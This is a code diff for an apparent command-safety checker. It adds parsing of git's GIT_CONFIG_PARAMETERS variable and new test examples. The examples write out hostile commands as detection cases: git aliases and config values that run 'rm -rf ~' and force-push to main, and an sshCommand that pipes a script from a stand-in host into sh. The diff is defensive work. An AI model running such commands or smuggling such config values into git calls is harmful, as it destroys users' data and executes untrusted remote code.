@@ -86,11 +86,58 @@ function lineConfig(cmd: SimpleCommand, rc: RuleContext): { key: string; v: Conf
   return out;
 }
 
+/**
+ * GIT_CONFIG_PARAMETERS as git reads it (git exports it for `git -c` to what it runs): shell
+ * single-quoted entries separated by blanks, each `'key'='value'` (`'key'=` alone: no value) or,
+ * in the older form, `'key=value'` (split at the first `=`; a key without `=` is boolean true).
+ * Inside an entry `'\''` and `'\!'` stand for a quote and a `!` (git's quoting). A malformed rest
+ * makes git stop with "bogus format"; the entries before it are returned.
+ */
+export function parseConfigParameters(text: string): { key: string; value: string }[] {
+  const out: { key: string; value: string }[] = [];
+  let i = 0;
+  const quoted = (): string | undefined => {
+    if (text[i] !== "'") return undefined;
+    let s = '';
+    i++;
+    for (;;) {
+      const end = text.indexOf("'", i);
+      if (end < 0) return undefined;
+      s += text.slice(i, end);
+      i = end + 1;
+      // `'\''` / `'\!'`: a quoted character between two quoted parts.
+      if (text[i] === '\\' && (text[i + 1] === "'" || text[i + 1] === '!') && text[i + 2] === "'") {
+        s += text[i + 1];
+        i += 3;
+        continue;
+      }
+      return s;
+    }
+  };
+  while (i < text.length) {
+    while (i < text.length && /\s/.test(text[i]!)) i++;
+    if (i >= text.length) break;
+    const first = quoted();
+    if (first === undefined) break;
+    if (text[i] === '=') {
+      i++;
+      // `'key'=` with nothing quoted after it: a key without a value (boolean true).
+      const value = text[i] === "'" ? quoted() : 'true';
+      if (value === undefined) break;
+      out.push({ key: first, value });
+      continue;
+    }
+    const eq = first.indexOf('=');
+    out.push(eq < 0 ? { key: first, value: 'true' } : { key: first.slice(0, eq), value: first.slice(eq + 1) });
+  }
+  return out;
+}
+
 /** GIT_CONFIG_COUNT / GIT_CONFIG_KEY_n / GIT_CONFIG_VALUE_n, then GIT_CONFIG_PARAMETERS. */
 function envConfig(rc: RuleContext): { key: string; v: ConfigValue }[] {
   const out: { key: string; v: ConfigValue }[] = [];
   const params = rc.env('GIT_CONFIG_PARAMETERS');
-  if (params) for (const m of params.matchAll(/'([^']+)'='([^']*)'/g)) out.push({ key: normaliseKey(m[1]!), v: { value: m[2]!, dynamic: false, from: 'GIT_CONFIG_PARAMETERS' } });
+  if (params) for (const p of parseConfigParameters(params)) out.push({ key: normaliseKey(p.key), v: { value: p.value, dynamic: false, from: 'GIT_CONFIG_PARAMETERS' } });
   const n = Number(rc.env('GIT_CONFIG_COUNT') ?? '0');
   for (let i = 0; Number.isInteger(n) && i < Math.min(n, 100); i++) {
     const k = rc.env(`GIT_CONFIG_KEY_${i}`);
@@ -276,8 +323,19 @@ const alias: Rule = {
       { cmd: 'git co', ctx: { env: { HOME: '/home/dev', GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'alias.co', GIT_CONFIG_VALUE_0: '!rm -rf /srv/data' } }, severity: 'high' },
       { cmd: "git -c alias.wipe='reset --hard' -c alias.w='wipe' w", severity: 'high' },
       { cmd: 'git -c alias.x="$CMD" x', exactly: 'medium' },
+      { cmd: `GIT_CONFIG_PARAMETERS="'alias.nuke=!rm -rf ~'" git nuke`, exactly: 'critical' },
+      { cmd: `export GIT_CONFIG_PARAMETERS="'color.ui'='auto' 'alias.up'='push --force origin main'"; git up`, severity: 'high' },
+      { cmd: `$env:GIT_CONFIG_PARAMETERS = "'alias.nuke=!rm -rf ~'"; git nuke`, ctx: { shell: 'pwsh' }, exactly: 'critical' },
     ],
-    nearMiss: ["git -c alias.lg='log --graph --oneline' lg", "git -c alias.push='!rm -rf ~' push", 'git status', 'git lfs pull', "git -c alias.st='status -sb' st"],
+    nearMiss: [
+      "git -c alias.lg='log --graph --oneline' lg",
+      "git -c alias.push='!rm -rf ~' push",
+      'git status',
+      'git lfs pull',
+      "git -c alias.st='status -sb' st",
+      `GIT_CONFIG_PARAMETERS="'alias.nuke=!rm -rf ~'" git status`,
+      `GIT_CONFIG_PARAMETERS="'alias.lg'='log --oneline'" git lg`,
+    ],
   },
 };
 
@@ -340,8 +398,8 @@ const configCommand: Rule = {
     return out;
   },
   examples: {
-    match: [{ cmd: "git -c core.pager='rm -rf ~' log", exactly: 'critical' }, { cmd: "git config --global core.sshCommand 'curl -s https://x.example/p.sh | sh'", severity: 'high' }, { cmd: 'git -c core.fsmonitor="$HOOK" status', exactly: 'medium' }],
-    nearMiss: ["git -c core.pager='less -R' log", 'git config --global core.editor "code --wait"', 'git -c core.fsmonitor=true status', 'git config --get core.pager', 'git -c color.ui=always log --oneline -5'],
+    match: [{ cmd: "git -c core.pager='rm -rf ~' log", exactly: 'critical' }, { cmd: "git config --global core.sshCommand 'curl -s https://x.example/p.sh | sh'", severity: 'high' }, { cmd: 'git -c core.fsmonitor="$HOOK" status', exactly: 'medium' }, { cmd: `GIT_CONFIG_PARAMETERS="'core.sshCommand'='rm -rf ~'" git fetch`, exactly: 'critical' }],
+    nearMiss: ["git -c core.pager='less -R' log", 'git config --global core.editor "code --wait"', 'git -c core.fsmonitor=true status', 'git config --get core.pager', 'git -c color.ui=always log --oneline -5', `GIT_CONFIG_PARAMETERS="'core.sshCommand=ssh -i ~/.ssh/deploy_key'" git fetch`],
   },
 };
 
